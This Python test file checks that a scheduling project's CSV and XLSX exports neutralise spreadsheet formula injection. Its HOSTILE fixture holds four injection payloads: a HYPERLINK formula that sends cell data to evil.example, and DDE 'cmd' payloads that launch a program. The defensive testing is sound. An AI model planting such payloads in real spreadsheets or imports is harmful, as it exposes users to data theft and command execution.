"""Every CSV and XLSX the project writes, read back as a spreadsheet program would: a name imported as
`=HYPERLINK(...)` or `+cmd|...` comes out as inert text, never a formula (OWASP's CSV injection
guidance), while numbers stay numbers. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import text

from tests.dashboard import add_staff, sign_in
from tests.integration.test_store_commands import run

pytestmark = pytest.mark.slow  # hostile reference files imported, then an argon2 sign-in

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet program reads as the start of a formula
HOSTILE = {  # London boroughs renamed by a hostile reference file
    "E09000002": '=HYPERLINK("http://evil.example/?x="&A1,"Bromley")',
    "E09000003": "+cmd|' /C calc'!A0",
    "E09000004": "-2+3+cmd|' /C calc'!A0",
    "E09000005": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_cells(text_out: str) -> list[list[str]]:
    """The rows of a CSV, after checking that no cell would start a formula (a number may be negative)."""
    rows = list(csv.reader(io.StringIO(text_out)))
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(TRIGGERS) or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
    return rows


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet, after checking that none is a formula or text that would start one."""
    cells = [c for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for c in row]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert not (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)), cell.value
    return cells


def assert_names_kept_as_text(values) -> None:
    """Each hostile name is still there, whole, behind the single quote that makes it text."""
    values = list(values)
    for name in HOSTILE.values():
        assert "'" + name in values


@pytest.fixture
def hostile_las(store, capsys, tmp_path):
    """The four boroughs renamed through `ilacs import las`, each with an activity in 2025."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["ons_code", "name", "ofsted_region"])
    writer.writerows([code, name, "London"] for code, name in HOSTILE.items())
    las = tmp_path / "las.csv"
    las.write_text(out.getvalue(), encoding="utf-8")
    assert run(capsys, f"import las {las}")[0] == 0
    for code in HOSTILE:
        command = f"schedule focused-visit --la {code} --onsite 2025-02-04 --lead Ann --as-of 2025-01-02"
        assert run(capsys, command)[0] == 0
    return store


def test_the_dashboard_exports_are_inert(hostile_las, database_url, monkeypatch):
    from interfaces.web.app import create_app

    monkeypatch.setenv("ILACS_SECRET_KEY", "test-secret-key-for-the-export-tests")
    add_staff(hostile_las, "vic")
    with TestClient(create_app(database_url=database_url, loopback=True)) as site:
        sign_in(site, "vic")
        rows = csv_cells(site.get("/exports/due.csv").text)
        cells = xlsx_cells(site.get("/exports/due.xlsx").content)
    la = rows[0].index("Local authority")
    assert_names_kept_as_text(row[la] for row in rows[1:])
    assert_names_kept_as_text(c.value for c in cells)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    number = rows[0].index("Activity number") + 1
    activity_ids = [c.value for c in cells if c.column == number and c.row > 1]
    assert activity_ids and all(isinstance(i, int) for i in activity_ids)  # a number stays a number


def test_the_programme_plan_csv_is_inert(hostile_las, capsys):
    status, out, _ = run(capsys, "programme plan --from 2026-11-23 --years 3 --region London --csv")
    rows = csv_cells(out)
    assert status == 0 and rows[0][1] == "name"
    assert_names_kept_as_text(row[1] for row in rows[1:])


def test_the_compliance_report_csv_and_xlsx_are_inert(store, capsys, tmp_path):
    history = tmp_path / "history.csv"
    history.write_text(
        "la_code,activity_type,onsite_start,fieldwork_end,draft_letter_sent\n"
        "E09000002,focused-visit,2025-02-04,2025-02-05,2025-02-20\n",
        encoding="utf-8",
    )
    assert run(capsys, f"import history {history} --as-of 2026-01-05")[0] == 0
    with store.begin() as connection:  # a region stored before imports checked regions
        connection.execute(text("UPDATE local_authority SET ofsted_region = :r"), {"r": HOSTILE["E09000002"]})
    report = "compliance report --from 2025-01-01 --to 2025-12-31 --as-of 2026-01-15"
    status, out, _ = run(capsys, f"{report} --format csv")
    assert status == 0 and csv_cells(out.split("\n", 1)[1])[0][:2] == ["owner", "key"]
    assert run(capsys, f"{report} --format xlsx --output {tmp_path / 'report.xlsx'}")[0] == 0
    cells = xlsx_cells((tmp_path / "report.xlsx").read_bytes())
    regions = [c.value for c in cells if c.parent.title == "By region" and c.column == 1]
    assert "'" + HOSTILE["E09000002"] in regions
    due = [c for c in cells if c.parent.title == "Milestones" and c.column == 3 and c.row > 1]
    assert due and all(c.data_type == "n" for c in due)
